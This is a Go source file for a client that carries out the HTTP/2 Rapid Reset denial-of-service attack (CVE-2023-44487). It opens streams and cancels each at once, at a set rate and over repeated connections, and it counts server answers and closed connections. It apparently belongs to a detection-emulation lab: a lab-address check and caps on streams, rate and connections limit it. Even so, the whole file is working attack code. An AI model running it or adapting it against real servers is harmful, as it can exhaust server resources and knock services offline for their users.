// Package rapidreset is a client of HTTP/2 that opens streams and resets each at once (CVE-2023-44487): the server
// begins to work on every request, while none counts any more against the number of streams that it allows. It asks for
// one page of one host of its lab, at a rate, a bounded number of times. Frames are those of RFC 9113.
package rapidreset

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync/atomic"
	"time"

	"detgen/emulator/internal/options"
	"detgen/lab/inside"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The most that the flags take.
const (
	streamsMost     = 20_000
	rateMost        = 10_000
	connectionsMost = 200
)

// client is the attacker and what has come of it.
type client struct {
	address, authority string
	tls                *tls.Config // nil: without TLS, by prior knowledge
	patience           time.Duration

	opened, reset, connections int
	answers, closed            atomic.Int64 // streams that were answered before the reset came; connections that the server ended
}

// Client is the main of the client. When it has opened all streams it prints what came of them:
// "streams N resets N answers N connections N closed N".
func Client(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("rapid-reset", flag.ContinueOnError)
	address := f.String("server", "", "HOST:PORT")
	authority := f.String("authority", "", "what the requests say that they ask, HOST or HOST:PORT")
	ca := f.String("ca", "", "file with the authority of the server's certificate; without it there is no TLS")
	streams := f.Int("streams", 1000, "streams to open and reset, at most 20000")
	rate := f.Int("rate", 500, "streams a second, at most 10000")
	connections := f.Int("connections", 20, "connections at most, one after the other as the server ends them; at most 200")
	patience := f.Duration("patience", 10*time.Second, "how long to wait for the server, at most 1m")
	if err := options.Parse(f, args, "server", "authority"); err != nil {
		return err
	}
	for name, most := range map[string]int{"streams": streamsMost, "rate": rateMost, "connections": connectionsMost} {
		if err := options.Within(f, name, 1, most); err != nil {
			return err
		}
	}
	if err := options.WithinTime(f, "patience", time.Millisecond, time.Minute); err != nil {
		return err
	}
	host, err := inside.LabAddress(*address)
	if err != nil {
		return fmt.Errorf("--server: %w", err)
	}
	c := &client{address: *address, authority: *authority, patience: *patience}
	if *ca != "" {
		if c.tls, err = trust(*ca, host); err != nil {
			return fmt.Errorf("--ca: %w", err)
		}
	}
	err = c.attack(ctx, *streams, *connections, time.Second/time.Duration(*rate))
	fmt.Printf("streams %d resets %d answers %d connections %d closed %d\n", c.opened, c.reset, c.answers.Load(), c.connections, c.closed.Load())
	return err
}

func trust(file, name string) (*tls.Config, error) {
	pem, err := os.ReadFile(file)
	if err != nil {
		return nil, err
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(pem) {
		return nil, errors.New("no certificate in the file")
	}
	return &tls.Config{RootCAs: pool, ServerName: name, NextProtos: []string{http2.NextProtoTLS}}, nil
}

// attack opens and resets streams at a pace, over as many connections as it takes.
func (c *client) attack(ctx context.Context, streams, connections int, pace time.Duration) error {
	for c.opened < streams {
		if c.connections == connections {
			return fmt.Errorf("the server has ended %d connections after %d of %d streams", connections, c.opened, streams)
		}
		before := c.opened
		if err := c.connection(ctx, streams, pace); err != nil {
			return err
		}
		if c.opened == before {
			return errors.New("the server takes no stream")
		}
	}
	return nil
}

// connection opens and resets streams on one connection until all are done or the server ends it, which is no error.
func (c *client) connection(ctx context.Context, streams int, pace time.Duration) error {
	conn, err := c.dial(ctx)
	if err != nil {
		return err
	}
	defer conn.Close()
	c.connections++
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	out := bufio.NewWriter(conn)
	framer := http2.NewFramer(out, nil)
	if _, err := io.WriteString(out, http2.ClientPreface); err != nil {
		return err
	}
	if err := errors.Join(framer.WriteSettings(), out.Flush()); err != nil {
		return err
	}
	from := c.listen(conn)
	select {
	case s := <-from:
		if s != ready {
			return errors.New("the server does not speak HTTP/2")
		}
	case <-time.After(c.patience):
		return fmt.Errorf("no settings of the server within %v", c.patience)
	}
	if err := errors.Join(framer.WriteSettingsAck(), out.Flush()); err != nil {
		return c.ended(ctx, err)
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	next := time.Now()
	for id := uint32(1); c.opened < streams; id += 2 {
		select {
		case <-from:
			return c.ended(ctx, nil)
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Until(next)):
		}
		next = next.Add(pace)
		block.Reset()
		for _, field := range c.request() {
			if err := encoder.WriteField(field); err != nil {
				return err
			}
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return c.ended(ctx, err)
		}
		if err := framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return c.ended(ctx, err)
		}
		if err := out.Flush(); err != nil {
			return c.ended(ctx, err)
		}
		c.opened++
		c.reset++
	}
	// The answer to a ping says that the server has read all before it.
	if err := errors.Join(framer.WritePing(false, [8]byte{}), out.Flush()); err != nil {
		return c.ended(ctx, err)
	}
	select {
	case s := <-from:
		if s == over {
			return c.ended(ctx, nil)
		}
	case <-time.After(c.patience):
		return fmt.Errorf("no answer to a ping within %v", c.patience)
	case <-ctx.Done():
		return ctx.Err()
	}
	return errors.Join(framer.WriteGoAway(0, http2.ErrCodeNo, nil), out.Flush())
}

// ended notes that the server ended a connection.
func (c *client) ended(ctx context.Context, _ error) error {
	if ctx.Err() != nil {
		return ctx.Err()
	}
	c.closed.Add(1)
	return nil
}

func (c *client) dial(ctx context.Context) (net.Conn, error) {
	dialer := &net.Dialer{Timeout: c.patience}
	if c.tls == nil {
		return dialer.DialContext(ctx, "tcp", c.address)
	}
	conn, err := (&tls.Dialer{NetDialer: dialer, Config: c.tls}).DialContext(ctx, "tcp", c.address)
	if err != nil {
		return nil, err
	}
	if got := conn.(*tls.Conn).ConnectionState().NegotiatedProtocol; got != http2.NextProtoTLS {
		conn.Close()
		return nil, fmt.Errorf("the server does not speak HTTP/2, but %q", got)
	}
	return conn, nil
}

func (c *client) request() []hpack.HeaderField {
	scheme := "http"
	if c.tls != nil {
		scheme = "https"
	}
	return []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: scheme}, {Name: ":authority", Value: c.authority}, {Name: ":path", Value: "/"},
	}
}

// said is what the server said that the client waits for.
type said int

const (
	ready said = iota // its settings
	pong
	over // GOAWAY, or the end of the connection
)

// listen reads what the server sends until the connection ends. The channel never blocks the reader for what nobody waits
// for, since there are at most three things to say.
func (c *client) listen(conn net.Conn) <-chan said {
	events := make(chan said, 4)
	go func() {
		framer := http2.NewFramer(io.Discard, conn)
		settings := false
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				events <- over
				return
			}
			switch f := frame.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() && !settings {
					settings = true
					events <- ready
				}
			case *http2.PingFrame:
				if f.IsAck() {
					events <- pong
				}
			case *http2.HeadersFrame:
				c.answers.Add(1)
			case *http2.GoAwayFrame:
				events <- over
				return
			}
		}
	}()
	return events
}
